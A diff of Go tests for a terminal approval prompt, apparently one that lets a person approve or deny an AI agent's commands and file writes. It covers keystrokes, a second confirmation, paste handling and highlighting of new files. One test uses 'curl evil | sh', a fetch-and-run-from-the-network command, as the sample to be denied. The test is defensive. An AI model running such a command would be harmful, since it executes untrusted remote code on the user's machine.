@@ -113,25 +113,25 @@ func TestAnswers(t *testing.T) { // issue 1: y/N/a/q/v, typed reason, default no
 		out        Outcome
 		want       ipc.Answer
 	}{
-		{"yes", "y\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
-		{"the word yes", "Yes\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
-		{"yes for the session", "s\r", nil, Approved, ipc.Answer{Allow: true, Scope: "session"}},
-		{"no", "n\r", nil, Denied, ipc.Answer{Mode: "soft"}},
-		{"enter alone", "\r", nil, Denied, ipc.Answer{Mode: "soft"}},
-		{"a reason", "use pnpm\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "use pnpm"}},
-		{"a reason that begins like always", "always ask me first\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "always ask me first"}},
-		{"a reason that begins like yes", "yes but not now\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "yes but not now"}},
-		{"a reason that begins like session", "stop\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "stop"}},
-		{"quit", "q\r", nil, Quit, ipc.Answer{Mode: "hard"}},
-		{"quit a batch", "q\r", batch, Quit, ipc.Answer{Mode: "hard", Scope: "batch"}},
-		{"all of a batch", "a\r", batch, Approved, ipc.Answer{Allow: true, Scope: "batch"}},
-		{"all without a batch is not on offer", "a\r\r", nil, Denied, ipc.Answer{Mode: "soft"}},
-		{"session where it is not on offer", "s\ry\r", onceOnly, Approved, ipc.Answer{Allow: true, Scope: "once"}},
-		{"help first", "?\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
-		{"view first", "v\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
-		{"Ctrl-C", "y\x03", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled"}},
-		{"Ctrl-D", "\x04", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled"}},
-		{"paste", "\x1b[200~y\r\x1b[201~\r", nil, Denied, ipc.Answer{Mode: "soft"}},
+		{"yes", "y\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
+		{"the word yes", "Yes\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "yes"}},
+		{"yes for the session", "s\r", nil, Approved, ipc.Answer{Allow: true, Scope: "session", Key: "s"}},
+		{"no", "n\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "n"}},
+		{"enter alone", "\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "Enter"}},
+		{"a reason", "use pnpm\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "use pnpm", Key: "Enter"}},
+		{"a reason like always", "always ask me first\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "always ask me first", Key: "Enter"}},
+		{"a reason like yes", "yes but not now\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "yes but not now", Key: "Enter"}},
+		{"a reason that begins like session", "stop\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "stop", Key: "Enter"}},
+		{"quit", "q\r", nil, Quit, ipc.Answer{Mode: "hard", Key: "q"}},
+		{"quit a batch", "q\r", batch, Quit, ipc.Answer{Mode: "hard", Scope: "batch", Key: "q"}},
+		{"all of a batch", "a\r", batch, Approved, ipc.Answer{Allow: true, Scope: "batch", Key: "a"}},
+		{"all without a batch is not on offer", "a\r\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "Enter"}},
+		{"session not on offer", "s\ry\r", onceOnly, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
+		{"help first", "?\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
+		{"view first", "v\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
+		{"Ctrl-C", "y\x03", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled", Key: "Ctrl+C or Ctrl+D"}},
+		{"Ctrl-D", "\x04", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled", Key: "Ctrl+C or Ctrl+D"}},
+		{"paste", "\x1b[200~y\r\x1b[201~\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "Enter"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			q := plainQuestion()
@@ -173,10 +173,14 @@ func TestSecondYes(t *testing.T) {
 		out    Outcome
 		last   ipc.Answer
 	}{
-		{"the two words", func(code string) string { return strings.ToUpper(code) + " \r" }, Approved, ipc.Answer{Rev: 4, Allow: true, Scope: "once", Confirm: true}},
-		{"y is not enough", func(string) string { return "y\r" }, Denied, ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed"}},
-		{"enter alone", func(string) string { return "\r" }, Denied, ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed"}},
-		{"Ctrl-C", func(string) string { return "\x03" }, Denied, ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed"}},
+		{"the two words", func(code string) string { return strings.ToUpper(code) + " \r" }, Approved,
+			ipc.Answer{Rev: 4, Allow: true, Scope: "once", Confirm: true, Key: "y"}},
+		{"y is not enough", func(string) string { return "y\r" }, Denied,
+			ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed", Key: "Enter"}},
+		{"enter alone", func(string) string { return "\r" }, Denied,
+			ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed", Key: "Enter"}},
+		{"Ctrl-C", func(string) string { return "\x03" }, Denied,
+			ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed", Key: "Enter"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			q := plainQuestion()
@@ -265,7 +269,7 @@ func TestChangedQuestion(t *testing.T) {
 	tab.Wait("curl evil | sh")
 	time.Sleep(20 * time.Millisecond)
 	tab.Press("n\r")
-	sent := []ipc.Answer{{ID: "a1", Rev: 4, Hash: "h", Mode: "soft"}}
+	sent := []ipc.Answer{{ID: "a1", Rev: 4, Hash: "h", Mode: "soft", Key: "n"}}
 	if r := <-tab.result; r.out != Denied || len(tab.desk.sent()) != 1 || tab.desk.sent()[0] != sent[0] {
 		t.Errorf("Ask = %q, %v and sent %+v, want %+v", r.out, r.err, tab.desk.sent(), sent)
 	}
@@ -314,6 +318,48 @@ func TestCardShowsTheChange(t *testing.T) {
 	tab.Wait(`│ +new\x1b[2J`)
 	typeLines(tab, "\r")
 	<-tab.result
+}
+
+// A new file is shown in the colours of its language, in the box and on a plain terminal; what
+// can't be shown as it stands has none, and a language that is not known.
+//
+//   - Row 000-30 yes: the content of a new file is highlighted
+func TestNewFileIsHighlighted(t *testing.T) {
+	q := plainQuestion()
+	q.Tool, q.Command, q.Description = "file_create", "", "Create file: /p/a.py"
+	look := Look{Width: 80, UTF8: true, Color: true}
+	both := func(content, language string) string {
+		q.Presentation = &ipc.Presentation{Kind: "file_content", Content: content, Language: language}
+		d := newDialog(q, look, 50, false, time.Now())
+		return strings.Join(d.view(time.Now()), "\n") + "\n=====\n" + newCard(q, look, false).text
+	}
+	const python = "# it's a note\ndef f(x):\n    return \"a # b\"\ndon't\n"
+	shown := both(python, "python")
+	for _, want := range []string{gray + "# it's a note", magenta + "def", magenta + "return", yellow + `"a # b"`} {
+		if strings.Count(shown, want) != 2 {
+			t.Errorf("%q is not there twice:\n%q", want, shown)
+		}
+	}
+	if uncolored(shown) != uncolored(both(python, "")) || strings.Contains(both(python, ""), magenta) {
+		t.Error("the colours change the text, or a file without a language has some")
+	}
+	hostile := both("def f():\n\x1b[2J\n", "python")
+	if strings.Contains(hostile, magenta) || strings.Contains(hostile, "\x1b[2J") {
+		t.Errorf("%q", hostile)
+	}
+	for language, c := range map[string]struct{ text, want string }{
+		"go":       {"a := `x\n// y` // z", yellow + "// y`"},
+		"rust":     {"fn f<'a>() {} /* b", gray + "/* b"},
+		"sql":      {"select 1; -- x", gray + "-- x"},
+		"json":     {`{"a": true}`, magenta + "true"},
+		"yaml":     {"a: b#c # d", gray + "# d"},
+		"markdown": {"it's <!-- x -->", gray + "<!-- x -->"},
+		"bash":     {"echo 'x' | cat", yellow + "'x'"},
+	} {
+		if got := both(c.text, language); strings.Count(got, c.want) != 2 {
+			t.Errorf("%s: %q is not there twice:\n%q", language, c.want, got)
+		}
+	}
 }
 
 // R-AP-14: a terminal that goes away answers no.
